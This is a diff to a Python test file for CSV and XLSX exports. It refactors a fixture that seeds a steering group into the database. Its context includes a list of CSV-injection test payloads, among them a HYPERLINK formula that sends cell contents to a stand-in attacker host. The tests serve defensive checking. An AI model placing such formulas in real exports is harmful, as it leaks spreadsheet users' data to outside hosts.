@@ -3,7 +3,6 @@ and no raw dangerous csv field (OWASP's CSV-injection rule, cards/cells.py)."""
 
 from __future__ import annotations
 
-import asyncio
 import csv
 import io
 from datetime import UTC, datetime
@@ -27,6 +26,7 @@ from dialogs.reviews.export import to_csv as reviews_csv
 from dialogs.reviews.export import to_xlsx as reviews_xlsx
 from storage.database import Database
 from tests.catalogue_support import add_groups, write_csv
+from tests.support.decision_log import add_groups as add_log_groups
 
 PAYLOADS = (
     '=HYPERLINK("https://evil.example/?x="&A1,"Klikk")',
@@ -130,17 +130,7 @@ def test_poll_minutes_csv() -> None:
 def cli(clean_env: Path, monkeypatch: pytest.MonkeyPatch, database_url: str) -> str:
     monkeypatch.setenv("KRAVBOT_DATABASE_URL", database_url)
     monkeypatch.setenv("KRAVBOT_LANGUAGE", "en")
-
-    async def groups() -> None:
-        db = Database(database_url)
-        try:
-            async with db.uow() as uow:
-                await uow.groups.add("STY", "Styringsgruppe", "steering")
-                await uow.commit()
-        finally:
-            await db.dispose()
-
-    asyncio.run(groups())
+    add_log_groups(database_url, ("STY", "Styringsgruppe", "steering"))
     return database_url
 
 
